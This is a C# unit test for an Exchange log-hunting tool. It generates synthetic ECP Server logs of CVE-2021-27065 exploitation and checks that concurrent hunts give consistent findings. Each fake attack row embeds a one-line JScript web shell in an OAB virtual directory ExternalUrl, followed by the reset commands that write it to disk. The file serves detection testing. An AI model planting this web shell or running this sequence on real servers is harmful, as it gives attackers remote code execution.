using System;
using System.Globalization;
using System.IO;
using System.Linq;
using System.Text;
using System.Threading;
using System.Threading.Tasks;
using HafniumTools.Logs;
using Xunit;
using static HafniumTools.Tests.Logs.LogTestSupport;

namespace HafniumTools.Tests.Logs;

/// <summary>
/// Hunts running at the same time in one process (runspaces, thread jobs, ForEach-Object -Parallel, an audit beside a
/// hunt) over the same evidence give each the findings a hunt alone gives. The ECP Server log and event log rules
/// follow a sequence of rows per file (a Set carrying script, then the reset that writes it): that state belongs to
/// one hunt.
/// </summary>
public sealed class ConcurrentHuntTests : IDisposable
{
    private const int Attacks = 4000;
    private readonly string _folder = Path.Combine(Path.GetTempPath(), "ht-concurrent-" + Guid.NewGuid().ToString("N"));

    public ConcurrentHuntTests()
    {
        Directory.CreateDirectory(_folder);
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    // An ECP Server log with <paramref name="attacks"/> CVE-2021-27065 writes an hour apart: each a Set carrying script
    // followed within seconds by the reset (Remove- then New-OabVirtualDirectory) that writes it.
    private string EcpServerLog(int attacks)
    {
        var text = new StringBuilder()
            .Append("#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: ECP Server Log\r\n")
            .Append("#Date: 2021-03-03T00:00:01.354Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n");
        var start = new DateTime(2021, 3, 3, 0, 0, 0, DateTimeKind.Utc);
        string Row(DateTime at, string data) =>
            at.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture) + ",EXCH01,ECP.Request," + data + "\r\n";
        const string Sid = "S:SID=S-1-5-21-3623811015-3361044348-30300820-500;";
        for (int i = 0; i < attacks; i++)
        {
            var at = start.AddHours(i);
            text.Append(Row(at, "S:TIME=212;" + Sid + "S:CMD=Get-OabVirtualDirectory;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectory;S:EX=;S:RS=1"))
                .Append(Row(at.AddSeconds(2), "\"S:TIME=1453;" + Sid + "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"k" + i + "\"\"],\"\"unsafe\"\");}</script>''.Identity=''EXCH01\\OAB (Default Web Site)''';S:REQID=;S:URL=;S:EX=;S:RS=1\""))
                .Append(Row(at.AddSeconds(5), "S:TIME=3120;" + Sid + "'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''EXCH01\\OAB (Default Web Site)''';S:REQID=;S:URL=;S:EX=;S:RS=1"))
                .Append(Row(at.AddSeconds(9), "S:TIME=4388;" + Sid + "'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''EXCH01''.Role=''ClientAccess''';S:REQID=;S:URL=;S:EX=;S:RS=1"))
                .Append(Row(at.AddMinutes(20), "S:TIME=22;S:SID=S-1-5-21-1119;'S:CMD=Get-InboxRule.Mailbox=''contoso.local/Users/Alex Wilber''';S:REQID=;S:URL=/ecp/RulesEditor;S:EX=;S:RS=1"));
        }

        string path = Path.Combine(_folder, "EXCH01", "Logging", "ECP", "Server", "ECPServer20210303-1.LOG");
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text.ToString(), Encoding.ASCII);
        return path;
    }

    private static string Tally(HuntResult hunt) =>
        string.Join(", ", hunt.Findings.GroupBy(f => f.RuleId).OrderBy(g => g.Key, StringComparer.Ordinal).Select(g => g.Key + " x" + g.Count()));

    [Fact]
    public void Hunts_of_the_same_ECP_log_at_the_same_time_each_tie_every_reset_to_its_Set()
    {
        string log = EcpServerLog(Attacks);
        string alone = Tally(Hunt([log]));
        Assert.Equal($"HT-ECP-001 x{Attacks}, HT-ECP-002 x{Attacks}", alone);

        const int Together = 6;
        using var ready = new Barrier(Together);
        var tallies = Enumerable.Range(0, Together)
            .Select(_ => Task.Factory.StartNew(
                () =>
                {
                    ready.SignalAndWait();
                    return Tally(Hunt(new LogHuntRequest { Paths = [log], BufferSize = 4096, ThrottleLimit = 1 }));
                },
                TaskCreationOptions.LongRunning))
            .ToArray();

        Assert.All(tallies, t => Assert.Equal(alone, t.GetAwaiter().GetResult()));
    }
}
